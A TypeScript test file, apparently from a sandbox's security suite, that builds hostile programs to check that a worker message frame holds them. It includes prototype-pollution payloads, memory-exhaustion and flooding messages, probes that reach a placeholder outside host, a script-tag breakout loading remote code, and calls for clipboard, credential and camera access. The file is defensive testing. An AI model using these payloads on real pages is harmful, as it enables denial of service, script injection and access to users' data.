import { javascript, python } from '../../web/support/hostile-programs.ts';
import { tries, written, type Attack, type Targets } from './attacks.ts';

/** What no program has any reason to say, as JavaScript writes it, and what is needed first. */
const ODD: readonly (readonly [what: string, value: string, first?: string])[] = [
  ['another prototype', `JSON.parse('{"__proto__":{"report":{}},"kind":"done"}')`],
  [
    'another prototype in a report',
    `JSON.parse('{"kind":"done","report":{"__proto__":{"trace":""}}}')`,
  ],
  ['a word of the frame', `{ kind: 'here' }`],
  ['a word of the frame that nothing may run', `{ kind: 'refused' }`],
  ['a word of the frame with a report', `{ kind: 'heard', data: report({ output: evil }) }`],
  ['a word of the frame of an error', `{ kind: 'broken', line: 1, message: evil }`],
  ['a list of more than memory', `list`, `const list = []; list[4e9] = 1;`],
  [
    'columns of more than memory',
    `report({ notes: { ...empty, step: list } })`,
    `const list = []; list[4e9] = 1;`,
  ],
  ['columns that are none', `report({ notes: { ...empty, step: new Uint32Array(8) } })`],
  [
    'memory that is gone',
    `{ kind: 'alive', line: 1, memory }`,
    `const memory = new Uint8Array(8); new (reach('MessageChannel'))().port1.postMessage(0, [memory.buffer]);`,
  ],
  ['memory that is shared', `{ kind: 'alive', line: new SharedArrayBuffer(8) }`],
  [
    'depth without an end',
    `report({ root: deep })`,
    `let deep = []; for (let at = 0; at < 1e5; at++) deep = [deep];`,
  ],
  ['itself', `odd`, `const odd = { kind: 'done' }; odd.report = odd;`],
  ['a text of a hundred megabytes', `'x'.repeat(1e8)`],
  ['a kind of a hundred megabytes', `{ kind: 'x'.repeat(1e8) }`],
  ['an output of a hundred megabytes', `report({ output: 'x'.repeat(1e8), searches: 1 })`],
  [
    'an error of a hundred megabytes',
    `report({ problem: { code: 'error', line: 1, message: 'x'.repeat(1e8) } })`,
  ],
  ['whole numbers of another kind', `report({ searches: 1n })`],
  ['a line that is no number', `{ kind: 'alive', line: NaN }`],
  ['a line below all others', `{ kind: 'alive', line: -Infinity }`],
  [
    'values of every kind',
    `[new Map([[1, new Set()]]), new Date(NaN), /x/g, new Error(evil), -0, null]`,
  ],
  ['a file', `{ kind: 'alive', line: new Blob([evil]) }`],
  [
    'a module',
    `{ kind: 'done', report: new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) }`,
  ],
  [
    'a tree without an end',
    `report({ searches: 1, trace: '{"prunus":"trace","version":1}\\n' + '{"event":"enter"}\\n'.repeat(6e5) })`,
  ],
  [
    'a tree of numbers that are none',
    `report({ searches: 1, trace: '{"prunus":"trace","version":1}\\n{"event":"enter","alpha":1e999,"depth":-1e999,"move":"\\u202e\\ud800\\0"}\\n{"event":"leave","value":1e999}\\n' })`,
  ],
  [
    'notes of nodes that are not there',
    `report({ searches: 1, trace: '{"prunus":"trace","version":1}\\n{"event":"enter"}\\n{"event":"leave","value":1}\\n', notes: { step: [0, 9e15], node: [5e5, 5e5], line: [1, 9e15], name: [0, -1], value: [evil, evil], names: ['__proto__'] } })`,
  ],
];

/** Programs that say what no program says, and a frame that hears all of it. */
export function messageAttacks({ stranger }: Targets): readonly Attack[] {
  return [
    ...ODD.map(([what, value, first = '']) =>
      tries(`a message: ${what}`, `${first} tell(${value}); return 'told';`),
    ),
    tries(
      'a message with what can be handed over',
      `const { port1, port2 } = new (reach('MessageChannel'))(); const stream = new ReadableStream(); try { tell({ kind: 'alive', line: 1, port2 }, [port2]); } catch {} tell({ kind: 'alive', line: stream }, [stream]); return once(port1, 'message', 'messageerror');`,
    ),
    written(
      'a flood of reports',
      `const long = report({ output: 'x'.repeat(1e7) }); for (;;) tell(long);`,
    ),
    written(
      'a flood of signs of life that are long',
      `const many = Array.from({ length: 1e5 }, (_, at) => ({ at })); for (;;) tell({ kind: 'alive', line: 1, many });`,
    ),
    written(
      'a flood of signs of life whose lines are long',
      `const many = Array.from({ length: 1e5 }, (_, at) => ({ at })); for (;;) tell({ kind: 'alive', line: many });`,
    ),
    written(
      'a flood from workers of its own',
      `const W = reach('Worker'); const address = URL.createObjectURL(new Blob(['for (;;) postMessage(new Array(1e4).fill({}));'])); for (let at = 0; at < 3; at++) new W(address).onmessage = ({ data }) => tell(data); outlive();`,
    ),
    // What workers of some browsers can do besides.
    tries(
      'a picture that filters by a file of a stranger',
      `const C = reach('OffscreenCanvas'); const it = new C(8, 8).getContext('2d'); it.filter = 'url(${stranger}filter.svg#filter)'; it.font = '9px evil, url(${stranger}font)'; it.fillRect(0, 0, 8, 8); it.fillText(evil, 0, 8); await after(300); return it.filter;`,
    ),
    tries(
      'WebAssembly that comes in a stream',
      `return WebAssembly.compileStreaming(reach('fetch')('${stranger}stream.wasm'));`,
    ),
    tries(
      'a request for later',
      `return reach('fetchLater')('${stranger}later', { activateAfter: 0 }).activated;`,
    ),
    tries(
      'a socket that is a stream',
      `const S = reach('WebSocketStream'); return new S('${stranger}stream'.replace('http', 'ws')).opened;`,
    ),
    tries(
      'a worker in an address that others share',
      `const S = reach('SharedWorker'); new S('data:text/javascript,fetch("${stranger}shared")'); await after(300); return 'shared';`,
    ),
    tries(
      'a notice',
      `const N = reach('Notification'); new N(evil); return reach('registration').showNotification(evil);`,
    ),
    tries(
      'whatever asks a visitor',
      `const said = []; const it = reach('navigator'); for (const ask of [() => it.credentials.get({ password: true }), () => it.clipboard.writeText(evil), () => it.clipboard.readText(), () => it.usb.requestDevice({ filters: [] }), () => it.serial.requestPort(), () => it.mediaDevices.getUserMedia({ video: true }), () => it.permissions.query({ name: 'geolocation' }), () => it.storageBuckets.open(bait), () => it.locks.request(bait, () => evil), () => it.storage.persist(), () => reach('alert')(evil), () => reach('prompt')(evil), () => reach('print')(), () => reach('sharedStorage').set(bait, evil), () => it.share({ text: evil })]) try { said.push(await Promise.race([ask(), after(200)])); } catch (error) { said.push(error.name); } return said;`,
    ),
    {
      what: 'its address as a module',
      written: 'javascript',
      text: `${javascript('')}\nimport.meta.url;`,
    },
    {
      what: 'a map to its source',
      written: 'javascript',
      text: `${javascript('')}\n//# sourceURL=${stranger}source.js\n//# sourceMappingURL=${stranger}source.js.map`,
    },
    {
      what: 'the end of its script',
      written: 'javascript',
      text: `${javascript('')}\n</script><script src="${stranger}end.js"></script><!-- */ } }) \u2028 \\u2029`,
    },
    {
      what: 'the end of its text',
      written: 'python',
      text: `${python('')}\nx = """</script><script src="${stranger}end.js"></script>\\u2028"""\n`,
    },
  ];
}
